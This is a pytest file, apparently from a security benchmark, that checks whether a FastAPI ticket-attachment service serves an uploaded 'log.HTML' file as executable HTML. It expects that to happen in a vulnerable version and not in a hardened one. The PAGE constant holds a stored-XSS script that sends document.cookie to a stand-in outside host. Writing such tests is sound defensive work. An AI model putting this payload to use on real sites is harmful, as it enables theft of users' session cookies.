from fastapi.testclient import TestClient

PAGE = b"<script>location = 'https://elsewhere.example/?' + document.cookie</script>"


def attached(module, tmp_path, name, content):
    client = TestClient(module.create_app(tmp_path))
    return client, client.put(f"/tickets/7/attachments/{name}", content=content)


def attack(module, tmp_path) -> bool:
    client, response = attached(module, tmp_path, "log.HTML", PAGE)
    if response.status_code != 201:
        return False
    shown = client.get(response.json()["address"])
    return shown.headers["content-type"].startswith("text/html") and shown.content == PAGE


def test_honest_input(program, tmp_path):
    client, response = attached(program, tmp_path, "log.txt", b"it broke")
    assert response.status_code == 201
    address = response.json()["address"]
    assert address.startswith("/attachments/7-") and address.endswith(".txt")
    assert client.get(address).text == "it broke"


def test_attack_succeeds_on_vulnerable(vulnerable, tmp_path):
    assert attack(vulnerable, tmp_path)


def test_attack_fails_on_hardened(hardened, tmp_path):
    assert not attack(hardened, tmp_path)
